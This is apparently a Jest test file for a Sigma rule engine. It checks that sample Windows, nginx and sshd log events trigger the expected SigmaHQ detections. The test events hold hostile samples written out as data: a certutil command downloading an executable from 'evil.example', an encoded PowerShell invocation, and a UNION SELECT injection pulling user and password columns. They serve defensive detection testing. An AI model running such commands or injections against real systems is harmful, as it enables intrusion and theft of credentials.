import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorrelationAlert } from './correlation-engine';
import { loadRules } from './rule-loader';
import { SigmaEngine } from './sigma-engine';
import { ecsMapping } from './spec-helpers';
import type { EcsEvent } from './types';

const dir = join(__dirname, '__fixtures__/sigmahq');
const sources = readdirSync(dir)
  .filter((f) => f.endsWith('.yml'))
  .map((f) => ({ path: f, text: readFileSync(join(dir, f), 'utf8') }));
const loaded = loadRules(sources, { mapping: ecsMapping() });

function titlesMatching(event: EcsEvent): string[] {
  const engine = new SigmaEngine(loaded.rules);
  return engine
    .evaluate(event)
    .filter((o) => o.kind === 'match')
    .map((o) => o.rule.title);
}

describe('real SigmaHQ rules (verbatim)', () => {
  it('all compile ok', () => {
    expect(loaded.problems).toEqual([]);
    expect(loaded.documents.every((d) => d.result.status === 'ok')).toBe(true);
    expect(loaded.rules).toHaveLength(sources.length + 2);
  });

  it('Security Event Log Cleared matches a 1102 event', () => {
    const ev = {
      '@timestamp': '2024-03-01T10:00:00Z',
      event: { code: '1102', module: 'windows' },
      winlog: { channel: 'Security', event_id: '1102', provider_name: 'Microsoft-Windows-Eventlog' },
    };
    expect(titlesMatching(ev)).toEqual(['Security Event Log Cleared']);
    expect(titlesMatching({ ...ev, winlog: { ...ev.winlog, channel: 'System' } })).toEqual([]);
  });

  it('process creation rules match a Sysmon / 4688 event through ECS fields', () => {
    const whoami = {
      event: { code: '4688', module: 'windows' },
      winlog: { channel: 'Security', event_data: { NewProcessName: 'C:\\Windows\\System32\\whoami.exe' } },
      process: { executable: 'C:\\Windows\\System32\\whoami.exe', command_line: 'whoami /all' },
    };
    expect(titlesMatching(whoami)).toEqual(['Whoami Utility Execution']);
    const certutil = {
      event: { code: '1', module: 'windows' },
      winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_data: { OriginalFileName: 'CertUtil.exe' } },
      process: { executable: 'C:\\Temp\\cu.exe', command_line: 'cu.exe -urlcache -f http://evil.example/x.exe x.exe' },
    };
    expect(titlesMatching(certutil)).toEqual(['Suspicious Download Via Certutil.EXE']);
  });

  it('Suspicious Encoded PowerShell Command Line honours its filter', () => {
    const ps = (cmd: string) => ({
      event: { code: '1', module: 'windows' },
      winlog: { channel: 'Microsoft-Windows-Sysmon/Operational' },
      process: { executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', command_line: cmd },
    });
    expect(titlesMatching(ps('powershell.exe -nop -enc JABjAGwAaQBlAG4AdAA='))).toEqual([
      'Suspicious Encoded PowerShell Command Line',
    ]);
    expect(titlesMatching(ps('powershell.exe -ExecutionPolicy remotesigned -enc JABjAGwAaQBlAG4AdAA='))).toEqual([]);
    expect(titlesMatching(ps('powershell.exe -File x.ps1'))).toEqual([]);
  });

  it('SQL Injection Strings matches an nginx access event', () => {
    const ev = {
      event: { dataset: 'nginx.access', module: 'nginx' },
      http: { request: { method: 'GET' }, response: { status_code: 200 } },
      url: { original: '/products.php?id=1%20UNION%20SELECT%20user,pass%20FROM%20users' },
      message:
        '203.0.113.9 - - [01/Mar/2024:10:00:00 +0000] "GET /products.php?id=1%20UNION%20SELECT%20user,pass%20FROM%20users HTTP/1.1" 200 512',
    };
    expect(titlesMatching(ev)).toEqual(['SQL Injection Strings']);
    expect(titlesMatching({ ...ev, http: { ...ev.http, response: { status_code: 404 } } })).toEqual([]);
  });

  it('Suspicious OpenSSH Daemon Error matches an sshd message', () => {
    const ev = {
      event: { module: 'sshd', dataset: 'system.auth' },
      process: { name: 'sshd' },
      message: 'fatal: buffer_get_string: bad string length 0',
    };
    expect(titlesMatching(ev)).toEqual(['Suspicious OpenSSH Daemon Error']);
  });

  it('the Windows brute-force correlation fires on the fifth failed logon of one account and source', () => {
    const engine = new SigmaEngine(loaded.rules, { allowedLatenessMs: 0 });
    const ev = (i: number, ip = '198.51.100.4') => ({
      '@timestamp': new Date(Date.UTC(2024, 2, 1, 10, 0, i * 20)).toISOString(),
      event: { code: '4625', module: 'windows', id: `evt-${i}` },
      winlog: {
        channel: 'Security',
        event_data: { TargetUserName: 'administrator', TargetDomainName: 'CORP', IpAddress: ip },
      },
    });
    const outs = [0, 1, 2, 3].flatMap((i) => engine.evaluate(ev(i)));
    expect(outs).toEqual([]); // the base rule is informational and only feeds the correlation
    const fifth = engine.evaluate(ev(4)).filter((o): o is CorrelationAlert => o.kind === 'correlation');
    expect(fifth).toHaveLength(1);
    expect(fifth[0]).toMatchObject({
      new: true,
      count: 5,
      groupValues: { TargetUserName: 'administrator', TargetDomainName: 'CORP', IpAddress: '198.51.100.4' },
    });
    expect(fifth[0].rule.title).toBe('Brute Force Authentication Attempts For Single Account');
    expect(fifth[0].sampleEventIds).toEqual(['evt-0', 'evt-1', 'evt-2', 'evt-3', 'evt-4']);
  });

  it('the Linux sshd base rule excludes private source addresses', () => {
    const engine = new SigmaEngine(loaded.rules);
    const ev = (ip: string) => ({
      event: { module: 'sshd' },
      process: { name: 'sshd' },
      user: { name: 'root' },
      source: { ip },
      host: { name: 'web01' },
      message: `Failed password for root from ${ip} port 4242 ssh2`,
    });
    engine.evaluate(ev('203.0.113.9'));
    engine.evaluate(ev('192.168.1.20'));
    expect(engine.stats()).toMatchObject({ matches: 1, suppressedMatches: 1 });
  });
});
